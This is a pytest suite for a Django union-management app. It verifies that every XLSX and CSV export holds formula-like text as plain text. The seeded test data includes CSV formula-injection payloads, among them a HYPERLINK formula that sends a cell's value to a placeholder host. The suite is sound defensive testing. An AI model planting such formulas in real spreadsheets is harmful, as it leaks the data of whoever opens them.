"""Every export, downloaded through its public path, holds text as text: no cell runs as a formula.

Records are seeded whose text starts the way a formula (or a DDE payload) does; each registered
export (core.exports.EXPORTS) is fetched as an officer in scope, page and API alike; every XLSX
cell is read from the workbook's XML (a formula is an <f> element) and every CSV cell is checked to
be neutralised with a leading single quote. A new export must register (it cannot open a workbook
otherwise), and then this test fails until it is walked here; a spreadsheet writer used outside
core/exports.py fails the source check.
"""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from importlib import import_module
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client

from gonghui.accounts.services import token_issue
from gonghui.campaigns import services as campaigns
from gonghui.core.exports import CSV_FORMULA_STARTS, EXPORTS, csv_cell, csv_lines, register_export
from gonghui.members.models import Member
from gonghui.members.services import member_create
from gonghui.orgs.services import org_create
from tests.campaigns.support import allocate, filed_file, grant_assistance, make_campaign
from tests.conftest import member_data

pytestmark = pytest.mark.django_db

# What finding 2 used, and the other starts OWASP lists (tab and carriage return included).
HOSTILE = ('=HYPERLINK("http://x?"&C4,"点击核对")', "+1", "-1+2", "@SUM(1)", "\t=1", "\r=1")
SRC = Path(__file__).resolve().parent.parent / "src" / "gonghui"
_M = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")


@dataclass
class Cell:
    sheet: str
    ref: str
    kind: str  # the <c t=…> attribute: s shared string, inlineStr, str (a formula's text), n number…
    value: str
    formula: bool


def xlsx_cells(body: bytes) -> list[Cell]:
    """Every cell of every sheet, read from the XML itself (no reader that might evaluate)."""
    book = zipfile.ZipFile(io.BytesIO(body))
    names = book.namelist()

    def text_of(node) -> str:
        return _ESCAPED.sub(lambda m: chr(int(m[1], 16)), "".join(t.text or "" for t in node.iter(f"{_M}t")))

    shared = []
    if "xl/sharedStrings.xml" in names:
        strings = ET.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314 - our own export
        shared = [text_of(si) for si in strings.iter(f"{_M}si")]
    cells = []
    for name in sorted(n for n in names if n.startswith("xl/worksheets/sheet")):
        for c in ET.fromstring(book.read(name)).iter(f"{_M}c"):  # noqa: S314 - our own export
            kind, v = c.get("t", "n"), c.find(f"{_M}v")
            if kind == "s":
                value = shared[int(v.text)]
            elif kind == "inlineStr":
                value = text_of(c)
            else:
                value = v.text if v is not None else ""
            cells.append(Cell(name, c.get("r"), kind, value or "", c.find(f"{_M}f") is not None))
    return cells


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_safe_xlsx(body: bytes, expected: list[str]) -> None:
    cells = xlsx_cells(body)
    assert [c for c in cells if c.formula or c.kind == "str"] == []
    texts = {c.value for c in cells if c.kind in ("s", "inlineStr")}
    for value in expected:
        assert value in texts or any(value in t for t in texts), value


def assert_safe_csv(body: bytes, expected: list[str]) -> None:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(CSV_FORMULA_STARTS)] == []
    for value in expected:
        assert "'" + value in cells, value
    # Every field is quoted, so a neutralised cell cannot be split or merged by its content.
    first_line = text[1:].split("\r\n", 1)[0]
    assert first_line.startswith('"') and first_line.endswith('"')


# ---- the world every export reads -----------------------------------------------------------


@dataclass
class World:
    tree: object
    members: list[Member]
    org_names: list[str]
    campaign: object
    grant_names: list[str]
    job_id: int


@pytest.fixture
def world(tree, django_capture_on_commit_callbacks) -> World:
    root = tree.superuser
    grant_assistance(tree, tree.city_admin, tree.officer_a, tree.officer_a1)
    members = [
        member_create(actor=root, data=member_data(tree.union_a1, seq=i + 1, name=value, employer_name=value))
        for i, value in enumerate(HOSTILE)
    ]
    orgs = [
        org_create(
            actor=root,
            parent=tree.district_a,
            data={"name": value, "code": f"BJ-CY-X{i}", "kind": "grassroots", "region_code": "110105"},
        )
        for i, value in enumerate(HOSTILE)
    ]
    # Finding 2: a grant for a person named =HYPERLINK(…) on the payment roll.
    campaign = make_campaign(tree.city_admin, tree.city, budget="100000")
    allocate(tree.city_admin, tree.city_admin, campaign, tree.district_a, "50000")
    grant_names = []
    for i, value in enumerate(HOSTILE):
        file = filed_file(tree.union_a1, 100 + i, value, "deep")
        grant = campaigns.grant_propose(actor=tree.officer_a1, campaign=campaign, data={"hardship_file": file.pk})
        campaigns.grant_approve(actor=tree.officer_a, grant=grant)
        grant_names.append(file.name)
    # An import whose rows are refused, so the job has an error report naming the hostile text.
    lines = ["姓名,证件号码,入会日期,民族"] + [
        f'"{v.replace(chr(34), chr(34) * 2)}",110105199005170000,2020-03-01,"{v.replace(chr(34), chr(34) * 2)}"'
        for v in HOSTILE
    ]
    upload = SimpleUploadedFile("roll.csv", "\r\n".join(lines).encode("utf-8"), content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        started = api(tree.officer_a1).post("/api/v1/members/import", {"file": upload, "org": tree.union_a1.pk})
    assert started.status_code == 202, started.content
    return World(
        tree=tree,
        members=members,
        org_names=[o.name for o in orgs],
        campaign=campaign,
        grant_names=grant_names,
        job_id=started.json()["id"],
    )


def api(user) -> Client:
    return Client(HTTP_AUTHORIZATION=f"Bearer {token_issue(user=user)}")


def page(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def ok(response):
    assert response.status_code == 200, (response.status_code, response.content[:300])
    return body_of(response)


# ---- each export, by every public path ------------------------------------------------------


def _roll_xlsx(w: World) -> None:
    names = [m.name for m in w.members]
    assert_safe_xlsx(ok(page(w.tree.officer_a).get("/members/export/")), names)
    assert_safe_xlsx(ok(api(w.tree.officer_a).get("/api/v1/members/export")), names)
    assert_safe_xlsx(ok(page(w.tree.viewer_a).get("/members/export/")), names)


def _roll_cli(w: World, tmp_path: Path) -> None:
    out = tmp_path / "roll.xlsx"
    call_command("export_members", str(out), org=w.tree.union_a1.code, as_user="officer_a1", stdout=io.StringIO())
    assert_safe_xlsx(out.read_bytes(), [m.name for m in w.members])


def _roll_csv(w: World) -> None:
    names = [m.name for m in w.members]
    assert_safe_csv(ok(page(w.tree.officer_a).get("/members/export/", {"format": "csv"})), names)
    assert_safe_csv(ok(api(w.tree.officer_a).get("/api/v1/members/export", {"format": "csv"})), names)


def _template(w: World) -> None:
    assert_safe_xlsx(ok(page(w.tree.officer_a).get("/members/import/template/")), ["姓名"])
    assert_safe_xlsx(ok(api(w.tree.officer_a).get("/api/v1/members/import-template")), ["姓名"])


def _error_report(w: World) -> None:
    officer = w.tree.officer_a1
    assert_safe_xlsx(ok(page(officer).get(f"/jobs/{w.job_id}/report/")), list(HOSTILE[:4]))
    assert_safe_xlsx(ok(api(officer).get(f"/api/v1/jobs/{w.job_id}/report")), list(HOSTILE[:4]))


def _bad_rows(w: World) -> None:
    officer = w.tree.officer_a1
    assert_safe_xlsx(ok(page(officer).get(f"/jobs/{w.job_id}/bad-rows/")), list(HOSTILE[:4]))
    assert_safe_xlsx(ok(api(officer).get(f"/api/v1/jobs/{w.job_id}/bad-rows")), list(HOSTILE[:4]))


def _payment_roll(w: World) -> None:
    officer, pk = w.tree.officer_a, w.campaign.pk
    assert_safe_xlsx(ok(page(officer).get(f"/campaigns/{pk}/roll.xlsx")), w.grant_names)
    assert_safe_xlsx(ok(api(officer).get(f"/api/v1/campaigns/{pk}/payment-roll")), w.grant_names)


def _satisfaction(w: World) -> None:
    officer = w.tree.officer_a
    assert_safe_xlsx(ok(page(officer).get("/rights/satisfaction/export/")), w.org_names)
    assert_safe_xlsx(ok(api(officer).get("/api/v1/rights/reports/satisfaction/export")), w.org_names)


def _rights_queue(w: World) -> None:
    from gonghui.rights.services import request_record_call

    for value in HOSTILE:
        request_record_call(
            actor=w.tree.officer_a,
            data={
                "channel": "hotline",
                "requester_name": value,
                "category": "wage_arrears",
                "title": value,
                "description": value,
                "employer_name": value,
                "facts": {"amount_owed": "1200", "project_name": value, "subcontractor_name": value},
            },
        )
    # Names and titles are stored trimmed (a leading tab or carriage return goes).
    assert_safe_xlsx(ok(page(w.tree.officer_a).get("/rights/export/")), [v.strip() for v in HOSTILE])


WALKS: dict[str, Callable[..., None]] = {
    "members.roll": _roll_xlsx,
    "members.roll_csv": _roll_csv,
    "members.import_template": _template,
    "members.import_errors": _error_report,
    "members.import_bad_rows": _bad_rows,
    "campaigns.payment_roll": _payment_roll,
    "rights.satisfaction": _satisfaction,
    "rights.queue": _rights_queue,
}


def test_every_registered_export_is_walked():
    # Import every module that registers an export, wired to a URL or not.
    for path in SRC.rglob("*.py"):
        if path != SRC / "core" / "exports.py" and "register_export(" in path.read_text(encoding="utf-8"):
            import_module("gonghui." + ".".join(path.relative_to(SRC).with_suffix("").parts))
    assert set(EXPORTS) == set(WALKS)


@pytest.mark.parametrize("name", sorted(WALKS))
def test_export_holds_hostile_text_as_text(world, name):
    WALKS[name](world)


def test_member_roll_from_the_command_line_holds_hostile_text_as_text(world, tmp_path):
    _roll_cli(world, tmp_path)


def test_no_spreadsheet_is_written_outside_the_export_helper():
    writers = re.compile(
        r"^\s*import xlsxwriter\s*$|xlsxwriter\.Workbook|(?<!Calamine)\bWorkbook\(|\bcsv\.(writer|DictWriter)\b"
        r"|\bopenpyxl\b|content_type\s*=\s*[\"']text/csv|\bStreamingHttpResponse\(",
        re.MULTILINE,
    )
    found = [
        f"{path.relative_to(SRC)}: {m.group(0).strip()}"
        for path in SRC.rglob("*.py")
        if path.relative_to(SRC).as_posix() != "core/exports.py"
        for m in writers.finditer(path.read_text(encoding="utf-8"))
    ]
    assert found == []


# ---- the CSV rule itself --------------------------------------------------------------------


def test_csv_cells_starting_like_a_formula_get_a_quote_and_numbers_stay_numbers():
    assert [csv_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [csv_cell(v) for v in ("张三", "1+1", "a=b", "", None, -5, 3)] == ["张三", "1+1", "a=b", "", "", -5, 3]
    name = register_export("tests.csv_rule", "test")
    try:
        lines = list(csv_lines(["姓名", "金额"], [['=1+1"', -5]], export=name))
    finally:
        del EXPORTS[name]
    assert lines == ['\ufeff"姓名","金额"\r\n', '"\'=1+1""","-5"\r\n']


def test_an_unregistered_export_cannot_open_a_workbook_or_a_csv():
    from gonghui.core.exports import XlsxExport, csv_response

    with pytest.raises(LookupError):
        XlsxExport(io.BytesIO(), export="nobody.registered")
    with pytest.raises(LookupError):
        csv_response(["a"], [], export="nobody.registered", filename="x.csv")
